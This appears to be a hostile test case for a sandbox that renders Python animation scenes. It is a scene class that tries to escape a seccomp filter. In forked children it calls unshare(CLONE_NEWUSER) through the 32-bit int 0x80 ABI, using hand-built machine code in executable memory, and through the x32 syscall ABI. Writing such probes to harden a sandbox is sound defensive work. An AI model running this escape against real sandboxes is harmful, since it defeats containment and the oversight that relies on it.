# class 5: escaping the sandbox
# tries: to slip past the seccomp filter through the other syscall ABIs of an x86_64 kernel: the 32-bit one (int 0x80,
# unshare is 310 there) and x32 (the syscall number with bit 30 set); each try runs in a forked child (a filter
# that kills on a foreign ABI kills only the child) and unshare(CLONE_NEWUSER) returning 0 is the escape.
import os, ctypes, mmap, platform
class HOSTILE(Scene):
    def construct(self):
        won = []
        if platform.machine() == 'x86_64':
            libc = ctypes.CDLL(None, use_errno=True)
            # mov eax, 310 ; mov ebx, 0x10000000 ; int 0x80 ; ret   (32-bit unshare(CLONE_NEWUSER))
            code = b'\xb8\x36\x01\x00\x00' + b'\xbb\x00\x00\x00\x10' + b'\xcd\x80' + b'\xc3'
            tries = {'int80': None, 'x32': None}
            for name in tries:
                r, w = os.pipe()
                pid = os.fork()
                if pid == 0:
                    try:
                        if name == 'int80':
                            buf = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
                            buf.write(code)
                            addr = ctypes.addressof(ctypes.c_char.from_buffer(buf))
                            rc = ctypes.CFUNCTYPE(ctypes.c_int)(addr)()
                        else:
                            libc.syscall.restype = ctypes.c_long
                            rc = libc.syscall(0x40000000 | 272, 0x10000000)
                        os.write(w, str(rc).encode())
                    finally: os._exit(0)
                os.close(w); _, st = os.waitpid(pid, 0)
                out = os.read(r, 64); os.close(r)
                tries[name] = (out.decode() or 'killed', os.waitstatus_to_exitcode(st))
                if out == b'0': won.append(f'{name}: unshare(CLONE_NEWUSER) worked')
            self.add(Text(repr(tries), font_size=20))
        if won: show(self, won)
        self.add(Circle()); self.wait(0.2)
